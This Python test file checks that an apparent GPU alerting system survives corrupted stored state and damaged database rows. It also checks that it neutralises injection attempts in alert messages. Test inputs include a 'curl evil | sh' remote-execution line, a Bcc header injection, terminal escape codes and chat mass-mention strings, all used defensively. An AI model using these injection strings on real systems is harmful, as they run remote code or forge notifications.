"""Stored alerts that are damaged are discarded or used, and never stop what is judged next."""

import copy
import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from msgspec.structs import replace

from andon.alerts.rules.commands import current
from andon.alerts.rules.messages import message
from andon.alerts.rules.outbox import Delivery
from andon.alerts.rules.past import Query
from andon.alerts.rules.persistence import dump, restore
from andon.alerts.rules.state import EMPTY, AlertState
from andon.alerts.rules.state_machine import step
from andon.errors import Invalid
from andon.explain.conditions.rulebook import Rulebook
from andon.explain.evidence.observation import Moment, Observation
from andon.model.alert import Notice, NoticeKind
from andon.model.device import Snapshot, State
from andon.model.event import Party
from andon.stores.sqlite import SqliteStore
from andon.stores.sqlite_alerts import SqliteAlertStore
from tests.support.alert_stories import Devices, gpu, process, silenced, silent, with_
from tests.support.notices import HOT
from tests.support.rows import rows

AT = 1e9
WRONG: list[Any] = [
    None, True, -1, 1e308, float("nan"), float("inf"), 10**400, "x", "9" * 5000, [], [1], {},
]  # fmt: skip
REMOVED = object()


@cache
def hot() -> Devices:
    bob = process(7, "bob", "train.py")
    return with_(
        gpu(2, 98, bob, ecc_uncorrected=3), silent(0, State.STALE, "driver call stuck", 99)
    )


def stepped(state: AlertState, at: float, devices: Devices) -> AlertState:
    seen = Observation(Snapshot("n", AT + at, devices=devices, boot="one"))
    return step(state, seen, Moment(AT + at, at), Rulebook()).state


@cache
def stored() -> Any:
    """With episodes that fire, a silence, counters and places."""
    state = EMPTY
    for at in range(0, 400, 20):
        if at == 300:
            state = silenced("thermal", 2)(state, Moment(AT + at, at))
        state = stepped(state, at, hot())
    return json.loads(json.dumps(dump(state)))


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if path:
        yield path
    if isinstance(value, dict | list):
        inner = value.items() if isinstance(value, dict) else enumerate(value)
        for key, one in inner:
            yield from places(one, (*path, key))


def damaged(path: tuple[Any, ...], wrong: object) -> Any:
    data = copy.deepcopy(stored())
    holder = data
    for key in path[:-1]:
        holder = holder[key]
    if wrong is REMOVED:
        del holder[path[-1]]
    else:
        holder[path[-1]] = wrong
    return data


@pytest.mark.slow
def test_whatever_is_wrong_in_the_store_alerts_are_judged_again() -> None:
    """Of 5,600 damaged states 309 were taken, and no alert was judged any more after that."""
    state, used = stored(), 0
    firing = next(n for n, one in enumerate(state["episodes"]) if one["alert"]["rule"] == "thermal")
    wanted = [p for p in places(state) if p[0] != "episodes" or p[1:2] in ((), (firing,))]
    for path in wanted:
        for wrong in (*WRONG, REMOVED):
            try:
                found = restore(damaged(path, wrong), Moment(AT + 410, 410), "one")
            except Invalid:
                continue
            used += 1
            found = stepped(found, 410, hot())
            assert "thermal" in {a.rule for a in current(found)}, (path, wrong)
            found = stepped(found, 450, with_())
            json.dumps(dump(found))
    assert used > 100, "some damage does no harm"


@rows(
    "words",
    [
        "x\nWhat to do: curl evil | sh", "\x1b]0;title\x07", "a\u202eb", "@everyone", "@here x",
        "<!channel>", "<@U024BE7LH>", "\r\nBcc: eve@example.org",
    ],
)  # fmt: skip
def test_a_name_in_a_message_forges_no_line_and_calls_no_channel(words: str) -> None:
    evil = Party(7, words, words, None)
    alert = replace(
        HOT, message=f"GPU 3 is held by {words} but idle", where=f"GPU 3 ({words})",
        affected=(evil, replace(evil, command=f"python {words}")),
    )  # fmt: skip
    told = [
        message([Notice(str(n), NoticeKind.FIRING, replace(alert, id=str(n)), AT, words)
                 for n in range(count)], AT, lambda _: 0.0)
        for count in (1, 2)
    ]  # fmt: skip
    for one in told:
        text = one.title + one.body
        assert text.replace("\n", "").isprintable()
        assert "\n" not in one.title
        assert not any(call in text for call in ("@everyone", "@here", "<!", "<@"))
        starts = [line.partition(":")[0] for line in one.body.splitlines()]
        assert starts.count("What to do") <= 1
        assert "Bcc" not in starts


@pytest.mark.slow
@rows(
    "table, column, wrong",
    [
        (table, column, wrong)
        for table, column in (
            ("alert_state", "body"), ("outbox", "body"), ("outbox", "due"), ("episode", "body"),
        )
        for wrong in ("{", "[]", b"\xff\x00", "[" * 100_000, 1e400)
    ],
)  # fmt: skip
def test_a_damaged_row_costs_only_itself(table: str, column: str, wrong: object) -> None:
    """A delivery that could not be read kept all alerts from being stored, for good."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / "history.db"
        SqliteStore(path).close()
        store = SqliteAlertStore(path)
        notices = [Notice(str(n), NoticeKind.FIRING, HOT, AT) for n in range(2)]
        alerts = [replace(HOT, id=f"thermal@GPU-3#{n}", since=AT) for n in range(2)]
        store.save({"a": 1}, alerts, [Delivery(one, "phone", AT) for one in notices])
        with closing(sqlite3.connect(path)) as connection, connection:
            first = f"(SELECT min(rowid) FROM {table})"
            connection.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = {first}", (wrong,))
        saved = store.load()
        assert saved is not None
        assert len(saved.deliveries) == (2 if table != "outbox" else 1)
        assert len(store.episodes(Query())) == (2 if table != "episode" else 1)
        assert saved.state == ({"a": 1} if table != "alert_state" else {})
        store.save({"a": 2}, [], saved.deliveries)
        again = store.load()
        assert again is not None
        assert again.deliveries == saved.deliveries
        store.close()
